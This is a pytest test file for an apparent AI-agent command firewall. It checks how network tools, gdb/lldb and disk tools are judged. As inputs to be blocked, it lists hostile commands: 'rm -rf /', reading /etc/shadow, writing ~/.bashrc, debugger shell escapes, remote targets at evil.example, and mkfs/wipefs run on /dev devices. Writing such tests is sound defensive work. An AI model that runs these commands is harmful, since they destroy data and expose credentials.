"""Option grammars read as the programs read them (``data/grammar.toml``).

Three classes of wrong verdicts, each held as a specification:

1. An option's value is never a destination: ``traceroute -m 12 HOST`` reaches HOST, not
   0.0.0.12; the real destination is still judged, in any address form.
2. Long options with one dash are one option: ``gdb -batch`` is not ``-b -a -t -c h``; the
   program gdb or lldb debugs is judged as run, and their commands are code judged by a
   table: looking and stepping pass, escapes and attaching stay findings.
3. A disk tool given only image files inside the workspace writes those files; a device, a
   path outside the workspace or a target known only at run time keeps ``disk-format``.
"""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from aegis.intent_firewall import Decision, IntentFirewall, Request
from aegis.intent_firewall.catalogue import catalogue
from aegis.intent_firewall.options import is_number, parse_options

FIREWALL = IntentFirewall(
    working_directory="/work/project",
    home="/home/agent",
    allowed_hosts=["github.com", "localhost", "127.0.0.1"],
)


def verdict(line: str) -> tuple[Decision, tuple[str, ...], str]:
    judged = FIREWALL.validate_request_sync(Request("execute_command", {"command": line}))
    return judged.decision, judged.matched_rules, " ".join(judged.reasons)


# 1. option values are not hosts -------------------------------------------------------

NUMERIC_OPTIONS = [
    ("traceroute", "-m"),
    ("traceroute", "-q"),
    ("traceroute", "-w"),
    ("traceroute", "-f"),
    ("traceroute", "-p"),
    ("traceroute", "-t"),
    ("tracepath", "-m"),
    ("tracepath", "-l"),
    ("ping", "-c"),
    ("ping", "-W"),
    ("ping", "-i"),
    ("ping", "-s"),
    ("ping", "-t"),
    ("ping6", "-c"),
    ("mtr", "-c"),
    ("mtr", "--report-cycles"),
    ("mtr", "-m"),
    ("mtr", "-s"),
    ("host", "-W"),
    ("host", "-R"),
    ("dig", "-p"),
    ("nc -z", "-w"),
    ("ncat -z", "--wait"),
    ("curl -sI", "--retry-delay"),
    ("curl -sI", "--max-redirs"),
    ("curl -sI", "--speed-time"),
    ("wget -q", "--waitretry"),
    ("wget -q", "--read-timeout"),
    ("nmap", "--max-retries"),
    ("nmap", "--top-ports"),
    ("arping", "-c"),
    ("iperf3 -c github.com", "-t"),
]


def _destination(program: str, host: str) -> str:
    if program.startswith(("curl", "wget")):
        return f"https://{host}/"
    if program.startswith("iperf3"):
        return ""
    return f"{host} 443" if program.startswith(("nc", "ncat")) else host


@pytest.mark.parametrize(("program", "option"), NUMERIC_OPTIONS)
@pytest.mark.parametrize("number", ["12", "3", "0.5", "30s", "64"])
def test_a_numeric_option_value_is_not_a_host(program: str, option: str, number: str) -> None:
    line = f"{program} {option} {number} {_destination(program, 'github.com')}".strip()
    decision, _rules, reasons = verdict(line)
    assert decision is Decision.ALLOW, f"{line}: {reasons}"


@pytest.mark.parametrize(("program", "option"), NUMERIC_OPTIONS)
def test_the_destination_after_a_numeric_option_is_still_judged(program: str, option: str) -> None:
    if program.startswith("iperf3"):
        line = f"iperf3 -c evil.example {option} 12"
    else:
        line = f"{program} {option} 12 {_destination(program, 'evil.example')}"
    decision, rules, _ = verdict(line)
    assert decision is not Decision.ALLOW
    assert "unknown-network-destination" in rules


@pytest.mark.parametrize(
    ("line", "address"),
    [
        ("ping 3232235777", "192.168.1.1"),
        ("ping -c 4 3232235777", "192.168.1.1"),
        ("ping -c 1 0xC0A80101", "192.168.1.1"),
        ("traceroute -m 12 3232235777", "192.168.1.1"),
        ("nc -w 3 3232235777 4444", "3232235777"),
        ("curl -m 10 http://3232235777/", "192.168.1.1"),
    ],
)
def test_numeric_address_forms_of_a_real_destination_are_hosts(line: str, address: str) -> None:
    decision, rules, reasons = verdict(line)
    assert decision is not Decision.ALLOW
    assert "unknown-network-destination" in rules
    assert address in reasons


@pytest.mark.parametrize(
    "line",
    [
        "traceroute -F evil.example",  # -F takes no value
        "traceroute -m evil.example",  # a name where a number belongs is not the value
        "traceroute -g evil.example github.com",  # the gateway is routed through
        "ping -c 3 github.com evil.example",  # every ping operand is a hop or the host
        "dig github.com @evil.example",  # the server asked
        "nslookup github.com 203.0.113.5",
        "host github.com 203.0.113.5",
        "nmap -p 443 -oN scan.txt evil.example",
    ],
)
def test_a_grammar_cannot_hide_a_destination(line: str) -> None:
    decision, rules, _ = verdict(line)
    assert decision is not Decision.ALLOW
    assert "unknown-network-destination" in rules


@pytest.mark.parametrize(
    "line",
    [
        "traceroute -n -m 20 github.com 60",  # packet length
        "dig github.com MX +short",  # a record type
        "nc -z -w 3 localhost 8080",
        "ss -tlnp",
        "netstat -tulpn",
    ],
)
def test_words_after_the_destination_that_are_not_addresses_pass(line: str) -> None:
    assert verdict(line)[0] is Decision.ALLOW


@pytest.mark.parametrize(
    ("value", "number"),
    [
        ("12", True),
        ("0.5", True),
        ("30s", True),
        ("1MiB", True),
        ("0x10", True),
        ("20-30", True),
        ("5,3,10", True),
        ("100%", True),
        ("10.0.0.1", False),
        ("evil.example", False),
        ("", False),
        ("-5", False),
        ("1" * 40, False),
    ],
)
def test_what_counts_as_a_number(value: str, number: bool) -> None:
    assert is_number(value) is number


def test_a_listener_port_is_not_an_address_but_a_client_number_is() -> None:
    assert verdict("nc -l 9000")[1] == ("network-listener",)
    assert "unknown-network-destination" in verdict("nc 3232235777 80")[1]


def test_iperf_server_listens() -> None:
    assert "network-listener" in verdict("iperf3 -s -p 5201")[1]


# 2. one-dash long options; gdb and lldb ---------------------------------------------


def test_a_one_dash_long_option_is_one_option() -> None:
    gdb = catalogue().lookup("gdb")
    assert gdb is not None
    assert gdb.single_dash
    parsed = parse_options(gdb, [("-batch", "-batch", False), ("x", "x", False)])
    assert parsed.flags == {"-batch"}
    assert [a[0] for a in parsed.operands] == ["x"]


def test_go_flags_take_one_dash_and_an_attached_value() -> None:
    go = catalogue().lookup("go")
    assert go is not None
    assert go.single_dash
    assert verdict("go vet -vettool=./bin/analyzer ./...")[0] is Decision.ALLOW
    assert "unmodelled-option" in verdict("go vet -vettool=/tmp/analyzer ./...")[1]
    assert "interpreter-code" in verdict("go build -toolexec=/tmp/wrap ./...")[1]
    assert "unknown-network-destination" in verdict("go install evil.example/tool@latest")[1]


def test_programs_listed_as_one_dash_keep_their_entries() -> None:
    listed = catalogue()
    for name in ("ffprobe", "nmap", "go", "java", "gdb"):
        program = listed.lookup(name)
        assert program is not None, name
        assert program.single_dash, name
    ffmpeg = listed.lookup("ffmpeg")  # one-dash when catalogued; the list adds no program
    assert ffmpeg is None or ffmpeg.single_dash
    go = listed.lookup("go")  # a refinement keeps the subcommands of its entry
    assert go is not None
    assert go.subcommands


@pytest.mark.parametrize(
    ("line", "decision"),
    [
        ("java -Xmx2g -ea -cp build/classes Main", "allow"),
        ("java -verbose:gc -jar build/app.jar", "allow"),
        ("java -javaagent:/tmp/agent.jar -jar build/app.jar", "review"),
        ("java -XX:HeapDumpPath=/etc/cron.d/x -jar build/app.jar", "block"),
        ("ffprobe -v error -show_entries format=duration -of csv=p=0 media/in.mp4", "allow"),
        ("ffprobe -hide_banner /etc/shadow", "block"),
        ("fping -c 3 -t 500 github.com", "allow"),
        ("fping -c 3 github.com evil.example", "review"),
        ("fping -g 10.0.0.0/24", "review"),
    ],
)
def test_one_dash_words_of_other_programs(line: str, decision: str) -> None:
    assert verdict(line)[0].value == decision


@pytest.mark.parametrize(
    ("line", "decision"),
    [
        ("gcc -Wall -Werror -MMD -MFbuild/deps.d -Iinclude -c src/a.c -o build/a.o", "allow"),
        ("clang -Wall -Wextra -isystem/usr/include -fPIC -O2 -o build/app src/a.c", "allow"),
        ("gcc -Wall -MF/etc/cron.d/job -c src/a.c", "block"),
        ("gcc -o/etc/cron.d/job src/a.c", "block"),
        ("clang -fplugin=/tmp/p.so src/a.c", "review"),
    ],
)
def test_compiler_options_are_words_with_joined_values(line: str, decision: str) -> None:
    assert verdict(line)[0].value == decision


@pytest.mark.parametrize(
    "line",
    [
        "gdb -batch -ex run -ex bt --args ./build/app --selftest",
        "gdb --batch -ex run -ex bt --args ./build/app --selftest",
        "gdb -batch --eval-command=run --eval-command=bt ./build/app",
        "gdb -q -batch -ex 'thread apply all bt' --args ./build/app",
        "gdb -batch -ex 'break main' -ex run -ex 'print argc' -ex continue ./build/app",
        "gdb -batch -ex 'set pagination off' -ex run -ex 'bt full' ./build/app",
        "gdb -batch -ex run -ex 'x/8xw $sp' -ex 'p/x $rip' -ex 'info frame' ./build/app",
        "gdb -batch -ex 'print sizeof(struct node)' -ex 'echo done(1)\\n' ./build/app",
        "gdb -batch -ex 'print (char)c' -ex 'p (int)argc' -ex 'print \"f(x)\"' ./build/app",
        "gdb -batch -ex 'break parse.c:42 if (n > 3)' -ex run ./build/app",
        "gdb -batch -ex 'run --selftest < tests/input.txt' ./build/app",
        "gdb -nx -batch -ex bt ./build/app core",
        "gdb ./build/app core",
        "lldb --batch -o run -o bt -- ./build/app --selftest",
        "lldb -batch -o 'breakpoint set -n main' -o run -o 'frame variable' ./build/app",
        "echo bt | gdb -batch ./build/app",
        "rust-gdb -batch -ex run -ex bt ./target/debug/app",
        "rust-lldb -b -o run -o 'bt all' ./target/debug/app",
        "gdb-multiarch -batch -ex 'info files' ./build/app.elf",
    ],
)
def test_debugging_a_workspace_program_is_allowed(line: str) -> None:
    decision, _rules, reasons = verdict(line)
    assert decision is Decision.ALLOW, f"{line}: {reasons}"


@pytest.mark.parametrize(
    "command",
    [
        "shell id",
        "sh id",
        "!id",
        "| id",
        "python import os",
        "py import os",
        "pipe bt | sh",
        "source /tmp/x.gdb",
        'call system("id")',
        'print (int)system("id")',
        'print $_shell("id")',
        'break main if system("id")',
        "dump memory ./m.bin 0 100",
        "restore ./p.bin binary 0",
        "attach 4242",
        "target remote evil.example:1234",
        'compile code system("id")',
        "define hook-stop",
        "alias x = shell",
        "set args $(id)",
        "set exec-wrapper sh -c",
        "thread apply all shell id",
        "frame apply all python print(1)",
        "some-unknown-command",
    ],
)
def test_a_debugger_command_that_runs_code_is_a_finding(command: str) -> None:
    line = f"gdb -batch -ex run -ex '{command}' ./build/app"
    decision, rules, _ = verdict(line)
    assert decision is not Decision.ALLOW
    assert "interpreter-code" in rules


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("gdb -batch -p 1 -ex bt", "interpreter-code"),
        ("gdb -batch -pid=1 -ex bt", "interpreter-code"),
        ("gdb ./build/app 4242", "interpreter-code"),
        ("lldb -b -p 1 -o bt", "interpreter-code"),
        ("gdb -batch -x /tmp/cmds.gdb ./build/app", "interpreter-code"),
        ("gdb -batch -frobnicate ./build/app", "wrapper-option"),
        ("gdb -batch -ex run --args $PROG", "dynamic-program"),
        ("cat cmds | gdb ./build/app", "pipe-into-interpreter"),
        ("gdb", "interactive-shell"),
        ("lldb -b -o 'platform shell id' ./build/app", "interpreter-code"),
        ("rust-lldb -b -o 'script print(1)' ./target/debug/app", "interpreter-code"),
        ("rust-gdb -batch -ex 'shell id' ./target/debug/app", "interpreter-code"),
        ("lldb -b -o 'script print(1)' ./build/app", "interpreter-code"),
        ("lldb -b -o 'memory read -o /tmp/m 0x0' ./build/app", "interpreter-code"),
    ],
)
def test_attaching_command_files_and_unknown_options_stay_findings(line: str, rule: str) -> None:
    decision, rules, _ = verdict(line)
    assert decision is not Decision.ALLOW
    assert rule in rules


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("gdb -batch -ex run --args rm -rf /", "recursive-delete-system"),
        ("gdb -batch -ex 'run; cat /etc/shadow' ./build/app", "credential-file-read"),
        ("gdb -batch -ex 'run > /etc/passwd' ./build/app", "credential-file-write"),
        ("gdb -batch -ex 'set logging file ~/.bashrc' ./build/app", "persistence-write"),
        ("lldb -b -o run -- sudo ./build/app", "privilege-escalation"),
    ],
)
def test_the_debugged_program_and_run_arguments_are_judged_as_run(line: str, rule: str) -> None:
    decision, rules, _ = verdict(line)
    assert decision is Decision.BLOCK
    assert rule in rules


# 3. disk tools on image files --------------------------------------------------------

IMAGE_TOOLS = [
    "mkfs.ext4 -F -q",
    "mkfs.ext2",
    "mkfs -t ext4",
    "mke2fs -t ext4 -F",
    "mkfs.vfat -F 32",
    "mkfs.xfs -f",
    "mkfs.btrfs -f",
    "mkdosfs -C",
    "mkswap",
    "sgdisk --zap-all",
    "parted -s",
    "fdisk -l",
    "sfdisk --dump",
    "wipefs -a",
    "e2fsck -f -y",
    "tune2fs -l",
    "resize2fs",
]


@pytest.mark.parametrize("tool", IMAGE_TOOLS)
@pytest.mark.parametrize(
    "image", ["./fixtures/disk.img", "build/fs.img", "disk.img", "/work/project/t/a.raw"]
)
def test_a_disk_tool_on_a_workspace_image_writes_that_file(tool: str, image: str) -> None:
    decision, rules, reasons = verdict(f"{tool} {image}")
    assert decision is Decision.ALLOW, reasons
    assert "disk-format" not in rules


@pytest.mark.parametrize("tool", IMAGE_TOOLS)
@pytest.mark.parametrize(
    "target",
    [
        "/dev/sdb1",
        "/dev/nvme0n1p2",
        "/dev/disk/by-id/ata-X-part1",
        "/dev/mapper/vg0-root",
        "/dev/nbd0",
        "/dev/loop0",
        "sdb1",
        "nvme0n1",
        "../../disk.img",
        "/home/agent/disk.img",
        "/tmp/disk.img",
        "$DISK",
        "./fixtures/*.img",
        "./fixtures/../../../../dev/sda",
    ],
)
def test_a_disk_tool_on_anything_else_is_disk_format(tool: str, target: str) -> None:
    decision, rules, _ = verdict(f"{tool} {target}")
    assert decision is Decision.BLOCK
    assert "disk-format" in rules


@pytest.mark.parametrize(
    "line",
    [
        "mkfs.ext4 -J device=/dev/sdb ./fixtures/disk.img",
        "mke2fs -d /etc -F ./fixtures/disk.img",
        "sgdisk -R /dev/sdb ./fixtures/disk.img",
        "sgdisk --backup=/tmp/t.bak ./fixtures/disk.img",
        "parted -s ./fixtures/disk.img select /dev/sda mklabel gpt",
        "fdisk -l",
        "cd /dev && mkfs.ext4 sda1",
        "cd /tmp && mkfs.ext4 disk.img",
        "echo /dev/sda | xargs mkfs.ext4",
        "losetup -fP ./fixtures/disk.img",
    ],
)
def test_a_device_anywhere_on_the_line_keeps_the_finding(line: str) -> None:
    decision, rules, _ = verdict(line)
    assert decision is Decision.BLOCK
    assert "disk-format" in rules


def test_mount_stays_a_finding() -> None:
    assert "destructive-command" in verdict("mount -o loop ./fixtures/disk.img /mnt")[1]


def test_the_image_is_judged_as_a_workspace_write() -> None:
    # a file the workspace rules protect keeps its own finding
    assert verdict("mkfs.ext4 -F .git/config")[0] is not Decision.ALLOW


@settings(max_examples=60, deadline=None)
@given(
    st.sampled_from(["fixtures", "build", "tests/data", "img"]),
    st.from_regex(r"[a-z][a-z0-9_-]{0,12}\.(img|raw|bin)", fullmatch=True),
    st.sampled_from(["mkfs.ext4 -F", "mkswap", "sgdisk -o", "parted -s"]),
)
def test_any_workspace_image_name_is_a_file_write(directory: str, name: str, tool: str) -> None:
    assert verdict(f"{tool} ./{directory}/{name}")[0] is Decision.ALLOW


@settings(max_examples=60, deadline=None)
@given(
    st.sampled_from(["sd", "hd", "vd", "xvd"]),
    st.from_regex(r"[a-z]{1,2}[0-9]{0,2}", fullmatch=True),
    st.sampled_from(["mkfs.ext4 -F", "mkswap", "sgdisk -o", "parted -s", "wipefs -a"]),
    st.sampled_from(["/dev/", "", "./", "/dev/disk/by-path/"]),
)
def test_any_device_name_is_disk_format(kind: str, suffix: str, tool: str, prefix: str) -> None:
    assert "disk-format" in verdict(f"{tool} {prefix}{kind}{suffix}")[1]


@pytest.mark.parametrize(
    "line",
    [
        "gdb -batch -ex 'print " + "a" * 3000 + "' ./build/app",
        "gdb -batch -ex 'print " + '"' * 3000 + "' ./build/app",
        "gdb -batch -ex 'thread apply " + "1 " * 1500 + "bt' ./build/app",
        "mkfs.ext4 ./" + "nvme1" * 800 + ".img",
        "mkfs.ext4 " + "-E a=b," * 400 + " ./x.img",
    ],
)
def test_long_words_are_judged_in_bounded_time(line: str) -> None:
    import time

    started = time.perf_counter()
    verdict(line)
    assert time.perf_counter() - started < 0.5
